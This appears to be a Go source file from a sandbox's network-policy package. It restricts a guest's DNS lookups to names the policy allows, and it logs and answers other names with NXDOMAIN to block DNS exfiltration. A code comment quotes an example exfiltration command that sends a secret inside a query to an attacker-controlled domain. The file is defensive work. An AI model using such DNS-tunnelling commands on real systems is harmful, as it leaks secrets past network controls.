package netpolicy

import (
	"slices"
	"strings"

	"github.com/miekg/dns"
)

// Trusted and open DNS send the guest's query names out of the host, and
// a name is data: `dig TXT <secret>.attacker.example` reaches the
// attacker's name server through any recursive resolver. So under a
// policy that limits hosts, those modes look up only the names the guest
// could use anyway (dnsRule); any other name gets NXDOMAIN, whatever the
// query type, and an event. Synthetic DNS sends nothing out and answers
// every name (see synthesize).

// allowsEveryHost reports whether the policy lets HTTP and HTTPS reach
// every host: "*" allowed and nothing denied (the policy without
// --allow-host).
func (p *Policy) allowsEveryHost() bool {
	return slices.Contains(p.Allow, "*") && len(p.Deny) == 0
}

// dnsRule decides whether trusted or open DNS may look up qname (as it
// comes off the wire, with its trailing dot) and names the rule that
// decided. Under a policy that allows every host, every name may be
// looked up. Otherwise the name must match an Allow pattern, an SSH allow
// pattern (--ssh-allow-host, any port), a TCP map's guest name or a
// --resolve name, and the most specific match wins against Deny patterns
// with deny winning a tie, as in hostRule: `policy deny` takes a name out
// of DNS too. Only plain host names qualify: no IP literals, escapes or
// ports, so a name is looked up exactly as it was checked.
func (p *Policy) dnsRule(qname string) (rule string, ok bool) {
	if p.allowsEveryHost() {
		return "allow *", true
	}
	if strings.ContainsAny(qname, `\:[]`) {
		return "not a host name", false
	}
	name, ip, err := NormalizeHost(qname)
	if err != nil || ip.IsValid() {
		return "not a host name", false
	}
	var allows []allowRule
	for _, pat := range p.Allow {
		allows = append(allows, allowRule{pat, "allow " + pat})
	}
	for _, h := range p.SSHAllow {
		allows = append(allows, allowRule{h.Host, "ssh-allow " + h.String()})
	}
	for _, m := range p.TCPMaps {
		allows = append(allows, allowRule{m.GuestHost, "tcp-map " + m.String()})
	}
	for _, r := range p.Resolve {
		allows = append(allows, allowRule{r.Host, "resolve " + r.Host})
	}
	return p.decide(name, allows)
}

// refuseName answers a query for a name the policy does not let trusted
// or open DNS look up: NXDOMAIN, with no SOA, so that a caching resolver
// in the guest does not keep the answer (RFC 2308, section 5) and a name
// allowed later resolves at the next query.
func (n *Network) refuseName(req *dns.Msg, q dns.Question, mode DNSMode, rule string) *dns.Msg {
	host := strings.TrimSuffix(q.Name, ".")
	if name, ip, err := NormalizeHost(host); err == nil && !ip.IsValid() {
		host = name
	}
	n.event(Event{
		Action: Blocked, Proto: "dns", Method: dns.Type(q.Qtype).String(), Host: host, Rule: rule,
		Reason: "name not allowed (" + rule + "); " + string(mode) + " DNS looks up only names the policy allows; allow it with --allow-host or gondolin policy allow",
	})
	m := new(dns.Msg)
	m.SetRcode(req, dns.RcodeNameError)
	m.RecursionAvailable = true
	return m
}
